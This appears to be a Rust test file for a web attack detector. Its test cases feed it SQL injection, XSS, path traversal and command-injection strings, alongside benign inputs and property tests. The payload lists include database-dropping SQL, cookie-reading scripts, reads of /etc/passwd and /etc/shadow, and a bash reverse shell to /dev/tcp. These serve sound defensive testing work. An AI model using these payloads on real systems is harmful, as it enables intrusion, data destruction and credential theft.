use super::*;

fn classes(s: &str) -> Vec<AttackClass> {
    detect(s).into_iter().map(|f| f.class).collect()
}

fn has(s: &str, c: AttackClass) -> bool {
    classes(s).contains(&c)
}

#[test]
fn sqli_examples() {
    for s in [
        "1 union select 1,2,3--",
        "' or 1=1--",
        "admin'--",
        "1; drop table users",
        "1 and sleep(5)",
        "x') or ('a'='a",
        "1 AND 1=1",
        "-1 UNION/**/SELECT password FROM users",
        "1%27%20or%20%271%27%3D%271",
        "1 * 1 --",
        "declare @s varchar(8000)",
        // quote-balancing expressions after a string break
        "aa'like-'aa",
        "1' -1 or '1",
        "x' in (0)#",
        // parenthesised logic / lone operand cut off by a comment
        " ( @a OR 'b' )  --",
        "1--",
        // number glued to a keyword, UNION after a value, `||` after a number
        "1e0UNION SELECT 2",
        "-1#x\nunion",
        "1 || 1 = 1",
        // statements before `(`, parenthesised SELECT with a clause, INTO OUTFILE
        "select (id),(2),3 from bar where",
        "(select id from users limit 1,1)",
        "1 into outfile 'x'",
        // an opened SQL function call, a call appended to a list, MongoDB operators, catalogues
        "concat (",
        "select(user(\n",
        ", FIND_IN_SET('22', Category )",
        "{\"$where\": \"sleep(100)\"}",
        "u_id[$ne]=1",
        "msdb",
        "root@example.com'/* comment */;",
        // a re-opened string holding a short literal after a logical operator
        "1\" and \"1",
        "x' OR 'ab",
        "A 'AND' B",
    ] {
        assert!(has(s, AttackClass::Sqli), "{s}");
    }
}

#[test]
fn xss_examples() {
    for s in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "<a href=\"javascript:alert(1)\">",
        "%3Csvg%20onload%3Dalert(1)%3E",
        "<div style=\"width: expression(alert(1))\">",
        "self[\"alert\"](1)",
        "document /*x*/ . cookie",
        "[].sort.call`${alert}1337`",
        "(![]+[])[+!+[]]",
        "+ADw-script+AD4-alert(1)",
        "1234<f o r m",
        "\"onzoom=",
        "'formaction=",
        "x:url(javascript",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x/\"/></a>",
        "foo!ENTITY % bar SYSTEM",
        "<!--#exec cmd=\"ls\"-->",
    ] {
        assert!(has(s, AttackClass::Xss), "{s}");
    }
}

#[test]
fn path_examples() {
    for s in [
        "../../etc/passwd",
        "..%2f..%2fwin.ini",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "file:///etc/shadow",
        "..\\..\\boot.ini",
        "../1.7z",
        "/path/to/.docker/secrets",
        "cat /etc/subuid",
        "0x5c0x2e./",
    ] {
        assert!(has(s, AttackClass::PathTraversal), "{s}");
    }
}

#[test]
fn cmdi_examples() {
    for s in [
        "; cat /etc/passwd",
        "| whoami",
        "$(id)",
        "`uname -a`",
        "a${IFS}b",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        "& for %a in (x) do cmd",
        "time sh -c whoami",
        "c89 -wrapper sh,-c,id .",
        "$SHELL -c \"echo hi\"",
        "~-1",
        "~+",
        "visudo\n",
        "cscli alerts list\n",
        "\\ls",
        "!-1!-2",
        "|$u wget test",
        "~ 5",
        "alias +g+ a=b",
        ";ansible-playbook site.yml",
        ";lastlog -u root",
        ";base64 --decode /etc/passwd",
        "chef-client -t 1.1.1.1",
        "ansible all -m ping",
    ] {
        assert!(has(s, AttackClass::Cmdi), "{s}");
    }
}

#[test]
fn benign_examples() {
    for s in [
        "hello world",
        "John O'Reilly",
        "Please select pair #1",
        "2 OR 4 METAL BUTTONS",
        "3 BY 5 RECIPE CARDS",
        "rock & roll",
        "a < b and c > d",
        "./images/logo.png",
        "john.smith@example.com",
        "/.well-known/security.txt",
        "JavaScript: The Good Parts",
        "100% cotton",
        "please confirm (yes or no)",
        "!@#$%^&*()-",
        "!@#$%",
        "the alert level is high",
        "O'Brien - O'Neil",
        "necklace length 16\" or 18\"",
        "SMALL \"&\" SIGN",
        "the european union",
        "5685587||ORDER=||SECTION_ID=||PAGE=2",
        "(see page 1) --",
        "wait for me (",
        "{\"$schema\": \"x\"}",
        "price: $ne",
        "~user/home",
        "~ approx. 5 km",
        "\\n and \\d",
        "hello!-1",
        "costs $5 off; $x each",
        "great news\n",
        "alias to a friend = me",
        "she -c",
        "<a for m>",
        "\"online\": true",
        "0x2e is a dot",
        "data:image/png;base64,iVBORw0KGgo=",
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2",
        "\"NOT FOR SALE\"",
        "... Some content ...",
        "myfunction(){ echo hello }",
        // text re-opened after a logical operator; two operands side by side before `--`
        "12\" and \"good quality",
        "pat'@home--",
    ] {
        assert!(classes(s).is_empty(), "{s}: {:?}", detect(s));
    }
}

#[test]
fn names_and_event_types() {
    assert_eq!(AttackClass::PathTraversal.as_str(), "path_traversal");
    assert_eq!(AttackClass::Cmdi.event_type(), EventType::CommandInjectionAttempt);
    assert_eq!(AttackClass::Sqli.to_string(), "sqli");
}

#[test]
fn oversized_inputs_use_a_prefix() {
    let d = Detector::new(32);
    let mut s = String::from("<script>alert(1)</script>");
    s.push_str(&"a".repeat(100));
    let f = d.detect(&s);
    assert!(f.iter().any(|f| f.class == AttackClass::Xss && f.oversized));
    // The attack beyond the prefix is not seen.
    let late = format!("{}<script>", "a".repeat(100));
    assert!(d.detect(&late).is_empty());
    // Multi-byte characters at the cut do not panic.
    assert!(d.detect(&"é".repeat(40)).is_empty());
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn never_panics(s in "\\PC{0,200}") {
            let _ = detect(&s);
        }

        #[test]
        fn never_panics_on_attack_alphabet(s in "[%0-9a-fA-Fu<>'\";|&$(){}\\[\\]/\\\\.+#=` \\-*!@]{0,120}") {
            let f = detect(&s);
            prop_assert!(f.iter().all(|f| (0.0..=1.0).contains(&f.confidence)));
        }

        #[test]
        fn prefilter_gates_never_change_the_result(
            s in "(union|select|from|or|and|1|=|cat|if|not|exist|whoami|document|cookie|etc|passwd|sys|information_schema|_|\\.|-|/|<|:|@|'|\\(|;| ){0,12}"
        ) {
            let n = normalise(&s);
            prop_assert_eq!(analyse(&n, &s, true), analyse(&n, &s, false), "{}", s);
        }

        #[test]
        fn prefilter_gates_never_change_the_result_on_punctuation(
            s in "(union|select|or|and|xp_x|1and|order|by|like|mod|sleep|document|window|cookie|innerhtml|etc|ini|ht|\\.|-|/|\\*|<|>|=|:|@|'|\"|`|\\(|\\)|\\[|;|#|&|\\||\\$|\\{|\\}|~|!|%|\\\\|,|\\?|[a-z]|[0-9]| |\n|\t){0,16}"
        ) {
            let n = normalise(&s);
            prop_assert_eq!(analyse(&n, &s, true), analyse(&n, &s, false), "{}", s);
        }

        /// The SQL gate is a necessary condition of the token judge, in every quoting context.
        #[test]
        fn sql_gate_never_hides_a_judgement(
            s in "(union|select|drop|or|and|xor|div|xp_x|1and|3\\.2union|order|group|by|limit|having|into|outfile|waitfor|delay|like|in|is|mod|sleep|from|where|\\.|-|/|\\*|<|>|=|!|@|'|\"|`|\\(|\\)|;|#|&|\\||,|[a-z]|[0-9]| |\n){0,14}"
        ) {
            let b = normalise(&s).bytes;
            let f = prefilter::Features::of(&b);
            let words = sql_gate::scan(&b, f);
            let mut buf = Vec::new();
            for ctx in [sql_lex::Ctx::None, sql_lex::Ctx::Single, sql_lex::Ctx::Double] {
                if !sql_gate::judge_possible(&b, ctx, words) {
                    sql_lex::lex(&b, ctx, &mut buf);
                    prop_assert_eq!(sqli::judge(&buf, ctx, &b), None, "{:?} {:?}", s, ctx);
                }
            }
        }

        /// Without comments, the JavaScript rules read the text with blanks skipped exactly as
        /// they read the JS view.
        #[test]
        fn js_rules_without_view_match_the_view(
            s in "(alert|eval|newfunction|self|window|document|\\(|\\)|\\[|\\]|'|\"|`|\\.|-|!|\\+|[a-z]| |\n|\t){0,16}"
        ) {
            let b = normalise(&s).bytes;
            let f = prefilter::Features::of(&b);
            if sql_lex::find_seq(&b, 0, b"/*").is_none() {
                let v = js::js_view(&b);
                prop_assert_eq!(js::detect_js(&b, None, f), js::detect_js(&b, Some(&v), f), "{:?}", s);
            }
        }

        #[test]
        fn prefilter_gates_never_change_the_result_on_any_text(s in "\\PC{0,80}") {
            let n = normalise(&s);
            prop_assert_eq!(analyse(&n, &s, true), analyse(&n, &s, false));
        }

        #[test]
        fn find_seq_matches_naive_search(hay in "[ab.]{0,40}", pat in "[ab.]{1,4}", from in 0usize..45) {
            let (h, p) = (hay.as_bytes(), pat.as_bytes());
            let naive = h.get(from..).and_then(|r| r.windows(p.len()).position(|w| w == p)).map(|i| i + from);
            prop_assert_eq!(sql_lex::find_seq(h, from, p), naive);
        }

        #[test]
        fn findings_are_bounded(s in "\\PC{0,300}") {
            let f = detect(&s);
            prop_assert!(f.len() <= AttackClass::ALL.len());
            let mut classes: Vec<_> = f.iter().map(|x| x.class).collect();
            classes.dedup();
            prop_assert_eq!(classes.len(), f.len());
        }

        #[test]
        fn normalisation_is_bounded(s in "[%0-9a-fA-Fu&#;x\\\\lgt+c]{0,200}") {
            let n = normalise(&s);
            prop_assert!(n.bytes.len() <= s.len());
            prop_assert!(n.rounds <= MAX_ROUNDS);
        }

        #[test]
        fn normalisation_folds_case(s in "[A-Za-z]{0,50}") {
            prop_assert_eq!(normalise(&s).text().into_owned(), s.to_ascii_lowercase());
        }
    }
}
